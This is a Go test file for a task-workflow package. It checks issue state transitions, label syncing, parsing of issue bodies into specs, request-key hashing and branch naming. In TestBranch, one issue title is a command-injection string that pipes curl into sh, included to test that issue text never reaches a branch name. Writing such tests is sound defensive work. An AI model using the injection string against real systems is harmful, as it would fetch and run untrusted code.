package task

import (
	"reflect"
	"strings"
	"testing"
)

// The whole table of states and moves; what is not listed is refused by name.
func TestMoves(t *testing.T) {
	from := []State{"", Proposed, Approved, Working, InReview, Done, NeedsYou, Blocked, Failed, Held}
	const no = State("-")
	table := map[Move][]State{
		//         none      proposed  approved  working   in-review done  needs-you blocked   failed    held
		Approve:  {Approved, Approved, Approved, no, no, no, Approved, Approved, Approved, no},
		Claim:    {Working, no, Working, Working, no, no, Working, Working, Working, no},
		Publish:  {no, no, InReview, InReview, InReview, no, InReview, no, no, no},
		Merge:    {no, no, no, Done, Done, Done, Done, no, no, no},
		Refuse:   {no, no, NeedsYou, NeedsYou, NeedsYou, no, NeedsYou, no, no, no},
		Stall:    {no, no, Blocked, Blocked, no, no, no, Blocked, no, no},
		Fail:     {no, no, no, Failed, Failed, no, no, no, Failed, no},
		Hold:     {no, no, Held, Held, Held, no, Held, no, no, Held},
		Resume:   {no, no, no, no, no, no, Approved, Approved, no, Approved},
		Withdraw: {no, "", "", "", NeedsYou, no, "", "", "", no},
	}
	if len(table) != len(moves) {
		t.Errorf("%d moves are tested, there are %d", len(table), len(moves))
	}
	for move, row := range table {
		for i, want := range row {
			have, err := Next(from[i], move)
			if want == no {
				if err == nil || have != from[i] || !strings.Contains(err.Error(), "cannot "+string(move)+" when "+from[i].name()) {
					t.Errorf("%s from %s: have %q, %v, want it refused", move, from[i].name(), have, err)
				}
				continue
			}
			if err != nil || have != want {
				t.Errorf("%s from %s: have %q, %v, want %q", move, from[i].name(), have, err, want)
			}
		}
	}
	if _, err := Next("odd", Claim); err == nil {
		t.Error("an unknown state was moved")
	}
	if _, err := Next(Working, "fly"); err == nil {
		t.Error("an unknown move was made")
	}
}

// An issue shows exactly one state, whatever it showed before, and foreign
// labels are left alone.
func TestLabels(t *testing.T) {
	have := []string{"bug", "seed:working", "seed:needs-you", "Seed:Done", "seed:other"}
	state, odd := StateOf(have)
	if state != NeedsYou || !odd {
		t.Errorf("have %q, odd %v, want %q and odd", state, odd, NeedsYou)
	}
	add, remove := Labels(have, InReview)
	if want := []string{"seed:in-review"}; !reflect.DeepEqual(add, want) {
		t.Errorf("adds %q, want %q", add, want)
	}
	if want := []string{"seed:working", "seed:needs-you"}; !reflect.DeepEqual(remove, want) {
		t.Errorf("takes off %q, want %q", remove, want)
	}
	for _, s := range States {
		add, remove := Labels([]string{s.Label()}, s)
		if add != nil || remove != nil {
			t.Errorf("%s to itself: +%q -%q", s, add, remove)
		}
	}
	if state, odd := StateOf([]string{"bug"}); state != "" || odd {
		t.Errorf("have %q, %v", state, odd)
	}
}

// Each row is an issue as a form or a person wrote it.
func TestParseSpec(t *testing.T) {
	for _, c := range []struct {
		name, body string
		want       Spec
	}{
		{"a form", "### Goal\n\nCount zero\n\n### Constraints\n\n_No response_\n\n### Risk\n\nLow, I think\n\n### Definition of done\n\nRun it\n\n### Automated test\n\nTestEmpty\n\n### Notes\n\nnone\n",
			Spec{Goal: "Count zero", Risk: "low", ReviewGoal: "Run it", ProgramGoal: "TestEmpty", Notes: "none"}},
		{"CRLF", "### Goal\r\n\r\nCount zero\r\n\r\n### Risk\r\n\r\nhigh\r\n", Spec{Goal: "Count zero", Risk: "high"}},
		{"old line ends", "### Goal\r\rCount zero\r", Spec{Goal: "Count zero"}},
		{"no sections", "just words\n", Spec{Goal: "T", Notes: "just words", Assumed: []string{"the title is the goal"}}},
		{"empty", "", Spec{Goal: "T", Assumed: []string{"the title is the goal"}}},
		{"an unknown section is kept", "### Steps to reproduce\n\nrun it\n", Spec{Goal: "T", Notes: "### Steps to reproduce\n\nrun it", Assumed: []string{"the title is the goal"}}},
		{"words before the first", "hello\n\n### Goal\n\ng\n", Spec{Goal: "g", Notes: "hello"}},
		{"words, unknown and notes", "hello\n### Logs\nx\n### Notes\ny\n", Spec{Goal: "T", Notes: "hello\n\n### Logs\n\nx\n\ny", Assumed: []string{"the title is the goal"}}},
		{"the first of two counts", "### Goal\na\n### Goal\nb\n### User outcome\nc\n", Spec{Goal: "a", Notes: "### Goal\n\nb\n\n### User outcome\n\nc"}},
		{"a heading in code is none", "### Goal\n```\n### Risk\nhigh\n```\n", Spec{Goal: "```\n### Risk\nhigh\n```"}},
		{"nor in tildes with backticks inside", "### Goal\n~~~\n```\n### Risk\nhigh\n~~~\n### Risk\nlow\n", Spec{Goal: "~~~\n```\n### Risk\nhigh\n~~~", Risk: "low"}},
		{"a line of code after a mark ends nothing", "### Goal\n```\n``` x\n### Risk\nhigh\n```\n", Spec{Goal: "```\n``` x\n### Risk\nhigh\n```"}},
		{"closed heading, colon, case", "### GOAL: ###\ng\n", Spec{Goal: "g"}},
		{"other levels are words", "## Goal\ng\n#### Risk\nhigh\n", Spec{Goal: "T", Notes: "## Goal\ng\n#### Risk\nhigh", Assumed: []string{"the title is the goal"}}},
		{"an empty goal", "### Goal\n\n_No response_\n", Spec{Goal: "T", Assumed: []string{"the title is the goal"}}},
		{"a risk that is none", "### Goal\ng\n### Risk\ncatastrophic\n", Spec{Goal: "g"}},
		{"propose", "### Goal\ng\n### Risk\nPropose.\n", Spec{Goal: "g", Risk: "propose"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			for range 5 { // the same each time
				if have := ParseSpec(" T ", c.body); !reflect.DeepEqual(have, c.want) {
					t.Fatalf("have %+v\nwant %+v", have, c.want)
				}
			}
		})
	}
	if have := ParseSpec("", ""); have.Goal != "" || have.Assumed != nil {
		t.Errorf("have %+v", have)
	}
}

// FuzzParseSpec: no word is lost, and nothing hangs or fails.
func FuzzParseSpec(f *testing.F) {
	f.Add("### Goal\n\na b\n\n### X\n```\nc\n")
	f.Fuzz(func(t *testing.T, body string) {
		s := ParseSpec("", body)
		all := " " + strings.ToLower(strings.Join([]string{s.Goal, s.Constraints, s.ReviewGoal, s.ProgramGoal, s.Notes}, " ")) + " "
		for _, sec := range sectionsOf(body) {
			if s.Risk != "" || strings.EqualFold(strings.TrimSpace(strings.TrimSuffix(sec.heading, ":")), "risk") {
				continue
			}
			if sec.text != "" && !strings.Contains(all, strings.ToLower(sec.text)) {
				t.Errorf("%q is lost: %+v", sec.text, s)
			}
		}
	})
}

// The key is the same for the same request in any order, and another for any
// part that differs or moves from one place to another.
func TestKey(t *testing.T) {
	base := Key("bug", []string{"a/**", "b/**"}, "issue:1", "api")
	for what, same := range map[string]string{
		"order":  Key("bug", []string{"b/**", "a/**"}, "issue:1", "api"),
		"double": Key("bug", []string{"a/**", "b/**", "a/**"}, "issue:1", "api"),
	} {
		if same != base {
			t.Errorf("%s makes another key", what)
		}
	}
	seen := map[string]string{base: "base"}
	for what, key := range map[string]string{
		"type": Key("feature", []string{"a/**", "b/**"}, "issue:1", "api"), "scope": Key("bug", []string{"a/**"}, "issue:1", "api"),
		"no scope": Key("bug", nil, "issue:1", "api"), "trigger": Key("bug", []string{"a/**", "b/**"}, "issue:11", "api"),
		"domain": Key("bug", []string{"a/**", "b/**"}, "issue:1", ""), "run together": Key("bug", []string{"a/**b/**"}, "issue:1", "api"),
		"swapped": Key("bug", []string{"a/**", "b/**"}, "api", "issue:1"), "moved": Key("bug", []string{"b/**"}, "issue:1", "apia/**"),
		"digits": Key("bug", []string{"a/**", "b/**"}, "issue:1", "api4:"),
	} {
		if other, ok := seen[key]; ok {
			t.Errorf("%s has the key of %s", what, other)
		}
		seen[key] = what
		if len(key) != 64 || strings.Trim(key, "0123456789abcdef") != "" {
			t.Errorf("%s: %q is no sha256", what, key)
		}
	}
	scope := []string{"b", "a"}
	Key("bug", scope, "", "")
	if scope[0] != "b" {
		t.Error("the scope that was given was sorted in place")
	}
}

// B05: no word of an issue is in a branch name.
func TestBranch(t *testing.T) {
	k := Task{Issue: 12, Key: Key("bug", nil, "issue:12", ""), Title: `"; curl x|sh; #`}
	if have := k.Branch(); have != "seedbed/12-"+k.Key[:8] {
		t.Errorf("have %q", have)
	}
	if have := (Task{Key: "ab"}).Key8(); have != "ab" {
		t.Errorf("have %q", have)
	}
}

// The words that were approved are these and no others: the border between
// title and body counts.
func TestWords(t *testing.T) {
	again := Words("a", "b")
	if Words("a", "b") != again || Words("a", "b") == Words("ab", "") || Words("a", "b") == Words("", "ab") || Words("1:a", "") == Words("", "1:a") {
		t.Error("the digest does not tell words apart")
	}
}
